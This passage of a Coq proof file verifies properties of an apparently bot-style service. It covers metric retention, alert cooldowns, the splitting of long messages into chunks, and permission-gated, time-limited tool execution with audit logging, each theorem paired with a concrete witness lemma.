    recorded, every sample left in that series is at most
    [METRIC_RETENTION_MS] older than the cleanup's clock reading; the new
    sample is the last one of the series provided its own reading is
    within the retention of the cleanup's; and no other series is
    touched. *)
Theorem recordMetric_retention (tPoint tClean : Z) (name : string) (v : Q)
    (tgs : option (list (string * string)))
    (metrics : gmap string (list MetricDataPoint)) :
  (tClean - METRIC_RETENTION_MS <= tPoint)%Z ->
  let metrics' := recordMetric tPoint tClean name v tgs metrics in
  let old := default [] (metrics !! name) in
  metrics' !! name
    = Some (since (tClean - METRIC_RETENTION_MS) old ++ [mkPoint v tPoint tgs]) /\
  Forall (fun dp => (tClean - METRIC_RETENTION_MS <= timestamp dp)%Z)
         (default [] (metrics' !! name)) /\
  forall other, other <> name -> metrics' !! other = metrics !! other.
Proof.
  intros Hfresh. cbv zeta. unfold recordMetric, cleanupOldMetrics.
  rewrite lookup_insert_eq.
  assert (E : since (tClean - METRIC_RETENTION_MS)
                (default [] (metrics !! name) ++ [mkPoint v tPoint tgs])
              = since (tClean - METRIC_RETENTION_MS) (default [] (metrics !! name))
                ++ [mkPoint v tPoint tgs]).
  { rewrite since_app. cbn [since timestamp].
    apply Z.leb_le in Hfresh. now rewrite Hfresh. }
  split; [| split].
  - now rewrite lookup_insert_eq, E.
  - rewrite lookup_insert_eq. cbn [default]. apply since_Forall.
  - intros other Hne. now rewrite !lookup_insert_ne.
Qed.

Lemma recordMetric_retention_witness :
  let metrics := {[ "errors" := [mkPoint 1 1000 None; mkPoint 1 250000 None] ]} in
  let metrics' := recordMetric 400000 400000 "errors" 1 None metrics in
  let old := default [] (metrics !! "errors") in
  metrics' !! "errors"
    = Some (since (400000 - METRIC_RETENTION_MS) old ++ [mkPoint 1 400000 None]) /\
  Forall (fun dp => (400000 - METRIC_RETENTION_MS <= timestamp dp)%Z)
         (default [] (metrics' !! "errors")) /\
  forall other, other <> "errors" -> metrics' !! other = metrics !! other.
Proof.
  apply (recordMetric_retention 400000 400000 "errors" 1 None
           {[ "errors" := [mkPoint 1 1000 None; mkPoint 1 250000 None] ]}).
  vm_compute. discriminate.
Defined.

Local Open Scope Q_scope.







End MetricsFacts.

(* ===================================================================== *)
(** ** Further properties of the alert cooldown *)
(* ===================================================================== *)

Module MonitoringMoreFacts.
Import Monitoring MonitoringFacts.

Lemma triggerAlert_effects_local c (cd cd' : gmap string Z) :
  cd' !! alertType c = cd !! alertType c ->
  (triggerAlert c cd').2 = (triggerAlert c cd).2.
Proof.
  intros E. unfold triggerAlert. rewrite E.
  destruct (inCooldown (cd !! alertType c) (now c)); reflexivity.
Qed.

Lemma triggerAlert_other p (cd : gmap string Z) (a : string) :
  alertType p <> a -> (triggerAlert p cd).1 !! a = cd !! a.
Proof.
  intros Hne. unfold triggerAlert.
  destruct (inCooldown (cd !! alertType p) (now p)); cbn [fst]; [reflexivity |].
  now rewrite lookup_insert_ne.
Qed.

(** X25: alert types do not suppress each other.  Whatever calls for
    other alert types came first, a call does what it would have done on
    the cooldown map before them; in particular, from the empty map the
    first call for each alert type always raises its alert. *)
Theorem alert_types_independent (pre post : list AlertCall) (c : AlertCall)
    (cd : gmap string Z) :
  Forall (fun p => alertType p <> alertType c) pre ->
  triggerAll (pre ++ c :: post) cd !! length pre = Some (c, (triggerAlert c cd).2) /\
  (cd !! alertType c = None ->
   triggerAll (pre ++ c :: post) cd !! length pre
   = Some (c, [LogWarn (alertLine c) (data c);
               AuditLog error None (alertType c) (message c) (data c) (severity c)])).
Proof.
  intros Hpre.
  assert (H : triggerAll (pre ++ c :: post) cd !! length pre
              = Some (c, (triggerAlert c cd).2)).
  { revert cd. induction Hpre as [| p pre Hp _ IH]; intros cd; cbn [app triggerAll length].
    - destruct (triggerAlert c cd) as [cd' effs]. reflexivity.
    - pose proof (triggerAlert_other p cd (alertType c) Hp) as Ho.
      destruct (triggerAlert p cd) as [cd' effs]. cbn [fst] in Ho.
      cbn [lookup list_lookup]. rewrite IH. now rewrite (triggerAlert_effects_local c cd cd' Ho). }
  split; [exact H |].
  intros Hnone. rewrite H. unfold triggerAlert. rewrite Hnone. reflexivity.
Qed.

Lemma alert_types_independent_witness :
  let pre := [mkCall "high_error_rate" SevCritical "Error rate is 50.0%" [] 1000;
              mkCall "high_error_rate" SevCritical "Error rate is 50.0%" [] 61000] in
  let c := mkCall "high_auth_failures" SevWarning "11 authentication failures" [] 61000 in
  triggerAll (pre ++ c :: []) ∅ !! length pre = Some (c, (triggerAlert c ∅).2) /\
  ((∅ : gmap string Z) !! alertType c = None ->
   triggerAll (pre ++ c :: []) ∅ !! length pre
   = Some (c, [LogWarn (alertLine c) (data c);
               AuditLog error None (alertType c) (message c) (data c) (severity c)])).
Proof.
  apply (alert_types_independent
           [mkCall "high_error_rate" SevCritical "Error rate is 50.0%" [] 1000;
            mkCall "high_error_rate" SevCritical "Error rate is 50.0%" [] 61000] []
           (mkCall "high_auth_failures" SevWarning "11 authentication failures" [] 61000) ∅).
  repeat constructor; discriminate.
Defined.

(** X26: the cooldown ends.  After an alert was raised at a clock reading
    other than 0, the next call for the same alert type raises an alert
    exactly when its own reading is at least [ALERT_COOLDOWN_MS] later; so
    a breach that persists is reported again once the five minutes are
    over. *)
Theorem alert_again_after_cooldown (c1 c2 : AlertCall) (cd : gmap string Z) :
  fired (c1, (triggerAlert c1 cd).2) ->
  alertType c2 = alertType c1 -> now c1 <> 0 ->
  (fired (c2, (triggerAlert c2 (triggerAlert c1 cd).1).2)
   <-> now c1 + ALERT_COOLDOWN_MS <= now c2).
Proof.
  unfold fired. cbn [snd]. intros Hf Hty Hnz.
  assert (E : (triggerAlert c1 cd).1 !! alertType c2 = Some (now c1)).
  { unfold triggerAlert in Hf |- *.
    destruct (inCooldown (cd !! alertType c1) (now c1)); [now destruct Hf |].
    cbn [fst]. rewrite Hty. apply lookup_insert_eq. }
  unfold triggerAlert at 1. rewrite E. unfold inCooldown.
  apply Z.eqb_neq in Hnz. rewrite Hnz. cbn [negb andb].
  destruct (now c2 - now c1 <? ALERT_COOLDOWN_MS) eqn:El; cbn [snd].
  - apply Z.ltb_lt in El. split; [intros H; now destruct H | lia].
  - apply Z.ltb_ge in El. split; [lia | discriminate].
Qed.

Lemma alert_again_after_cooldown_witness :
  let c1 := mkCall "high_tool_timeouts" SevWarning "7 tool timeouts" [] 1700000000000 in
  let c2 := mkCall "high_tool_timeouts" SevWarning "9 tool timeouts" [] 1700000300000 in
  fired (c2, (triggerAlert c2 (triggerAlert c1 ∅).1).2)
  <-> now c1 + ALERT_COOLDOWN_MS <= now c2.
Proof.
  apply (alert_again_after_cooldown
           (mkCall "high_tool_timeouts" SevWarning "7 tool timeouts" [] 1700000000000)
           (mkCall "high_tool_timeouts" SevWarning "9 tool timeouts" [] 1700000300000) ∅).
  - vm_compute. discriminate.
  - reflexivity.
  - cbn. lia.
Defined.
End MonitoringMoreFacts.

(* ===================================================================== *)
(** ** Properties of the reply chunks *)
(* ===================================================================== *)

Module MessageChunksFacts.
Import Validation MessageChunks.

Lemma startsWith_length pat str :
  startsWith pat str = true -> (length pat <= length str)%nat.
Proof.
  revert str. induction pat as [| p pat IH]; intros [| c str]; cbn; try lia; try discriminate.
  intros H. apply andb_true_iff in H as [_ H]. specialize (IH _ H). lia.
Qed.

Lemma lastIndexFrom_bound pat str : forall i best,
  let r := lastIndexFrom pat str i best in
  r = best \/ (i <= r /\ r + Z.of_nat (length pat) <= i + Z.of_nat (length str))%Z.
Proof.
  induction str as [| c str IH]; intros i best; cbn [lastIndexFrom].
  - now left.
  - destruct (startsWith pat (c :: str)) eqn:E.
    + apply startsWith_length in E.
      destruct (IH (i + 1)%Z i) as [-> | [H1 H2]]; right.
      * cbn [length] in *. lia.
      * cbn [length] in *. lia.
    + destruct (IH (i + 1)%Z best) as [-> | [H1 H2]];
        [now left | right]. cbn [length]. lia.
Qed.

Lemma lastIndexOf_bound pat str :
  lastIndexOf pat str = (-1)%Z \/
  (0 <= lastIndexOf pat str /\
   lastIndexOf pat str + Z.of_nat (length pat) <= Z.of_nat (length str))%Z.
Proof.
  unfold lastIndexOf.
  destruct (lastIndexFrom_bound pat str 0 (-1)) as [H | H]; auto.
Qed.

(** In a text longer than a positive limit the split point is at least 1
    and at most the limit. *)
Lemma chooseSplit_bounds (remainingText : jsString) (maxLength : Z) :
  (1 <= maxLength)%Z -> (maxLength < Z.of_nat (length remainingText))%Z ->
  (1 <= chooseSplit remainingText maxLength <= maxLength)%Z.
Proof.
  intros Hmax Hlong. unfold chooseSplit.
  set (searchRange := take (Z.to_nat maxLength) remainingText).
  assert (Hlen : Z.of_nat (length searchRange) = maxLength).
  { unfold searchRange. rewrite length_take. lia. }
  pose proof (lastIndexOf_bound [10%N] searchRange) as H1.
  pose proof (lastIndexOf_bound (ofString ". ") searchRange) as H2.
  pose proof (lastIndexOf_bound (ofString " ") searchRange) as H3.
  change (length [10%N]) with 1%nat in H1.
  change (length (ofString ". ")) with 2%nat in H2.
  change (length (ofString " ")) with 1%nat in H3.
  destruct (maxLength <? 2 * lastIndexOf [10%N] searchRange)%Z eqn:E1;
    [apply Z.ltb_lt in E1; lia |].
  destruct (maxLength <? 2 * lastIndexOf (ofString ". ") searchRange)%Z eqn:E2;
    [apply Z.ltb_lt in E2; lia |].
  destruct (maxLength <? 2 * lastIndexOf (ofString " ") searchRange)%Z eqn:E3;
    [apply Z.ltb_lt in E3; lia | lia].
Qed.

Lemma splitLoop_spec (maxLength : Z) : (1 <= maxLength)%Z ->
  forall fuel remainingText chunks,
    (length remainingText < fuel)%nat ->
    Forall (fun ch => (1 <= length ch)%nat /\ (Z.of_nat (length ch) <= maxLength)%Z) chunks ->
    exists out,
      splitLoop fuel remainingText maxLength chunks = Some out /\
      concat out = concat chunks ++ remainingText /\
      Forall (fun ch => (1 <= length ch)%nat /\ (Z.of_nat (length ch) <= maxLength)%Z) out.
Proof.
  intros Hmax. induction fuel as [| fuel IH]; intros remainingText chunks Hfuel Hch; [lia |].
  cbn [splitLoop].
  destruct (length remainingText =? 0)%nat eqn:E0.
  - apply Nat.eqb_eq in E0. destruct remainingText; [| discriminate E0].
    exists chunks. rewrite app_nil_r. auto.
  - apply Nat.eqb_neq in E0.
    destruct (Z.of_nat (length remainingText) <=? maxLength)%Z eqn:E1.
    + apply Z.leb_le in E1. exists (chunks ++ [remainingText]). split; [reflexivity |].
      split.
      * rewrite concat_app. cbn. now rewrite app_nil_r.
      * apply Forall_app. split; [exact Hch |]. constructor; [| constructor]. lia.
    + apply Z.leb_gt in E1.
      pose proof (chooseSplit_bounds remainingText maxLength Hmax E1) as Hs.
      set (k := Z.to_nat (chooseSplit remainingText maxLength)) in *.
      destruct (IH (drop k remainingText) (chunks ++ [take k remainingText]))
        as (out & Eout & Hcat & Hall).
      * rewrite length_drop. lia.
      * apply Forall_app. split; [exact Hch |]. constructor; [| constructor].
        rewrite length_take. lia.
      * exists out. split; [exact Eout |]. split; [| exact Hall].
        rewrite Hcat, concat_app. cbn. rewrite app_nil_r, <- app_assoc.
        now rewrite take_drop.
Qed.

(** X27: splitting a long message loses nothing.  For a limit of at least
    1, [splitLongMessage] ends (its loop runs at most once per character)
    and the chunks it returns, put together in order, are the text; no
    chunk is longer than the limit, and when the text is not empty no chunk
    is empty. *)
Theorem splitLongMessage_partitions (text : jsString) (maxLength : Z) (fuel : nat) :
  (1 <= maxLength)%Z -> (length text < fuel)%nat ->
  exists chunks,
    splitLongMessage fuel text maxLength = Some chunks /\
    concat chunks = text /\
    Forall (fun ch => (Z.of_nat (length ch) <= maxLength)%Z) chunks /\
    (text <> [] -> Forall (fun ch => ch <> []) chunks).
Proof.
  intros Hmax Hfuel. unfold splitLongMessage.
  destruct (Z.of_nat (length text) <=? maxLength)%Z eqn:E.
  - apply Z.leb_le in E. exists [text]. split; [reflexivity |].
    split; [cbn; now rewrite app_nil_r |]. split; repeat constructor; auto.
  - destruct (splitLoop_spec maxLength Hmax fuel text [] Hfuel) as (out & Eout & Hcat & Hall);
      [constructor |].
    exists out. split; [exact Eout |]. split; [exact Hcat |]. split.
    + eapply Forall_impl; [exact Hall |]. intros ch [_ H]. exact H.
    + intros _. eapply Forall_impl; [exact Hall |]. intros ch [H _] ->. cbn in H. lia.
Qed.

Lemma splitLongMessage_partitions_witness :
  exists chunks,
    splitLongMessage 40 (ofString "one two. three four five six") 10 = Some chunks /\
    concat chunks = ofString "one two. three four five six" /\
    Forall (fun ch => (Z.of_nat (length ch) <= 10)%Z) chunks /\
    (ofString "one two. three four five six" <> [] -> Forall (fun ch => ch <> []) chunks).
Proof.
  apply (splitLongMessage_partitions (ofString "one two. three four five six") 10 40).
  - lia.
  - vm_compute. lia.
Defined.

(** X28: with a limit of 0 or less and a text that is not empty the loop
    of [splitLongMessage] never ends: every iteration appends an empty
    chunk and leaves the remaining text as it is, so no number of
    iterations is enough. *)
Theorem splitLongMessage_hangs (text : jsString) (maxLength : Z) :
  (maxLength <= 0)%Z -> text <> [] ->
  forall fuel, splitLongMessage fuel text maxLength = None.
Proof.
  intros Hmax Hne fuel.
  assert (Hlen : (0 < length text)%nat) by (destruct text; [now destruct Hne | cbn; lia]).
  assert (Hk : Z.to_nat (chooseSplit text maxLength) = 0%nat).
  { unfold chooseSplit. replace (Z.to_nat maxLength) with 0%nat by lia.
    rewrite take_0.
    change (lastIndexOf [10%N] []) with (-1)%Z.
    change (lastIndexOf (ofString ". ") []) with (-1)%Z.
    change (lastIndexOf (ofString " ") []) with (-1)%Z.
    destruct (maxLength <? 2 * -1)%Z; [reflexivity |]. lia. }
  unfold splitLongMessage.
  assert (E1 : (Z.of_nat (length text) <=? maxLength)%Z = false) by (apply Z.leb_gt; lia).
  rewrite E1. generalize (@nil jsString).
  induction fuel as [| fuel IH]; intros chunks; cbn [splitLoop]; [reflexivity |].
  assert (E0 : (length text =? 0)%nat = false) by (apply Nat.eqb_neq; lia).
  rewrite E0, E1, Hk. cbn [drop]. apply IH.
Qed.

Lemma splitLongMessage_hangs_witness :
  splitLongMessage 1000 (ofString "hello") 0 = None.
Proof.
  apply (splitLongMessage_hangs (ofString "hello") 0).
  - lia.
  - discriminate.
Defined.
End MessageChunksFacts.

(* ===================================================================== *)
(** ** Properties of the tool execution *)
(* ===================================================================== *)

Module ToolExecutorFacts.
Import ToolPermission Timeout ToolExecutor Retry RetryFacts.

(** X29: a denied tool is never called.  When the caller is identified and
    the permission gate answers false, be it from the cache, from the
    table, or because the store failed, [callTool] is not invoked; the run
    fails with the permission message, and the audit calls it adds are, in
    order, [permission_denied], [tool_error] and a failed
    [tool_execution]. *)
Theorem denied_tool_never_called {T : Type} (clk : ExecClock) (reply : StoreReply)
    (op : Operation T) (tie : bool) (toolName : string) (uid : Z) (st : ExecState) :
  uid <> 0 ->
  returned (checkToolPermission (tCheck clk) (tStore clk) reply uid toolName (world st))
    = Normal false ->
  let r := executeGitHubTool true clk reply op tie toolName (Some uid) st in
  r.1 = Some (Rejected (OtherError ("You don't have permission to use the tool: "
                                    +:+ toolName +:+ "."))) /\
  toolCalls r.2 = toolCalls st /\
  auditTrail r.2 = auditTrail st ++
    [auditPermissionDenied uid toolName;
     auditToolError uid toolName
       ("You don't have permission to use the tool: " +:+ toolName +:+ ".");
     auditToolExecution uid toolName (tEnd clk - tStart clk) false].
Proof.
  intros Hnz Hdeny. cbv zeta. unfold executeGitHubTool. cbn [negb].
  assert (Ht : truthy (Some uid) = Some uid) by (destruct uid; [now destruct Hnz | | ]; reflexivity).
  rewrite Ht, Hdeny. unfold failed. cbn [isTimeoutError].
  unfold audited. rewrite Ht. cbn [fst snd toolCalls auditTrail errorMessage].
  rewrite <- app_assoc. auto.
Qed.

Lemma denied_tool_never_called_witness :
  let clk := mkExecClock 1000 1001 1002 1010 1011 1012 in
  let st := mkExec emptyWorld ∅ [] 0 in
  let r := executeGitHubTool true clk (Threw "fetch failed")
             (SettlesAt 5 (Fulfilled "issue created")) true "create_issue" (Some 42) st in
  r.1 = Some (Rejected (OtherError
                "You don't have permission to use the tool: create_issue.")) /\
  toolCalls r.2 = 0%nat /\
  auditTrail r.2 = [] ++
    [auditPermissionDenied 42 "create_issue";
     auditToolError 42 "create_issue"
       "You don't have permission to use the tool: create_issue.";
     auditToolExecution 42 "create_issue" 10 false].
Proof.
  apply (denied_tool_never_called (mkExecClock 1000 1001 1002 1010 1011 1012)
           (Threw "fetch failed") (SettlesAt 5 (Fulfilled "issue created")) true
           "create_issue" 42 (mkExec emptyWorld ∅ [] 0)).
  - lia.
  - vm_compute. reflexivity.
Defined.

(** X30: a tool cut off by the deadline is reported as a timeout.  When
    the caller may use the tool and the call does not settle within
    [TOOL_TIMEOUT_MS], the tool was called once, the run fails with the
    generic timeout message, an identified caller gets one [tool_timeout]
    audit call, the [tool_timeouts] counter gets a sample, and no
    [tool_execution] audit call or duration sample is recorded. *)
Theorem timed_out_tool_reported {T : Type} (clk : ExecClock) (reply : StoreReply)
    (op : Operation T) (tie : bool) (toolName : string) (userId : option Z)
    (st : ExecState) :
  permitted clk reply toolName userId st ->
  timesOut op TOOL_TIMEOUT_MS ->
  let r := executeGitHubTool true clk reply op tie toolName userId st in
  r.1 = Some (Rejected (OtherError "Tool execution timed out after 30000ms.")) /\
  toolCalls r.2 = S (toolCalls st) /\
  auditTrail r.2 = auditTrail st ++
    match truthy userId with
    | Some uid => [auditToolTimeout uid toolName TOOL_TIMEOUT_MS]
    | None => []
    end /\
  metrics r.2 = Metrics.incrementCounter (tPoint clk) (tClean clk) "tool_timeouts"
                  (Some [("toolName", toolName)]) (metrics st) /\
  metrics r.2 !! "tool_execution_duration" = metrics st !! "tool_execution_duration".
Proof.
  intros Hperm Hto. cbv zeta.
  assert (Hinv : forall st0 : ExecState,
    (invoke clk op tie toolName userId st0).1
      = Some (Rejected (OtherError "Tool execution timed out after 30000ms.")) /\
    toolCalls (invoke clk op tie toolName userId st0).2 = S (toolCalls st0) /\
    auditTrail (invoke clk op tie toolName userId st0).2 = auditTrail st0 ++
      match truthy userId with
      | Some uid => [auditToolTimeout uid toolName TOOL_TIMEOUT_MS]
      | None => []
      end /\
    metrics (invoke clk op tie toolName userId st0).2
      = Metrics.incrementCounter (tPoint clk) (tClean clk) "tool_timeouts"
          (Some [("toolName", toolName)]) (metrics st0)).
  { intros st0. unfold invoke.
    destruct (timesOut_result op TOOL_TIMEOUT_MS ("Tool execution timed out: " +:+ toolName)
                tie Hto) as [-> _].
    unfold timeoutFailure, failed. cbn [isTimeoutError]. unfold audited.
    destruct (truthy userId); cbn [fst snd toolCalls auditTrail metrics world];
      rewrite ?app_nil_r; auto. }
  assert (Hother : forall m : gmap string (list Metrics.MetricDataPoint),
    Metrics.incrementCounter (tPoint clk) (tClean clk) "tool_timeouts"
      (Some [("toolName", toolName)]) m !! "tool_execution_duration"
    = m !! "tool_execution_duration").
  { intros m. unfold Metrics.incrementCounter, Metrics.recordMetric, Metrics.cleanupOldMetrics.
    rewrite lookup_insert_eq. now rewrite !lookup_insert_ne. }
  unfold executeGitHubTool, permitted in *. cbn [negb].
  destruct (truthy userId) as [uid |] eqn:Et.
  - rewrite Hperm.
    match goal with |- context [invoke clk op tie toolName userId ?s] =>
      destruct (Hinv s) as (H1 & H2 & H3 & H4) end.
    rewrite ?Et in H3. rewrite H1, H2, H3, H4. cbn [toolCalls auditTrail metrics].
    rewrite Hother. auto.
  - destruct (Hinv st) as (H1 & H2 & H3 & H4).
    rewrite ?Et in H3. rewrite H1, H2, H3, H4. rewrite Hother. auto.
Qed.

Lemma timed_out_tool_reported_witness :
  let clk := mkExecClock 1000 1001 1002 31000 31001 31002 in
  let st := mkExec (mkWorld ∅ ∅ {[ (42, "create_issue")
                                    := mkRow (Some true) (Some 5) None None None None ]})
              ∅ [] 0 in
  let r := executeGitHubTool (T := string) true clk Served NeverSettles true
             "create_issue" (Some 42) st in
  r.1 = Some (Rejected (OtherError "Tool execution timed out after 30000ms.")) /\
  toolCalls r.2 = S (toolCalls st) /\
  auditTrail r.2 = auditTrail st ++
    match truthy (Some 42) with
    | Some uid => [auditToolTimeout uid "create_issue" TOOL_TIMEOUT_MS]
    | None => []
    end /\
  metrics r.2 = Metrics.incrementCounter 31001 31002 "tool_timeouts"
                  (Some [("toolName", "create_issue")]) (metrics st) /\
  metrics r.2 !! "tool_execution_duration" = metrics st !! "tool_execution_duration".
Proof.
  apply (timed_out_tool_reported (T := string)
           (mkExecClock 1000 1001 1002 31000 31001 31002) Served NeverSettles true
           "create_issue" (Some 42)
           (mkExec (mkWorld ∅ ∅ {[ (42, "create_issue")
                                    := mkRow (Some true) (Some 5) None None None None ]})
              ∅ [] 0)).
  - vm_compute. reflexivity.
  - exact I.
Defined.
End ToolExecutorFacts.
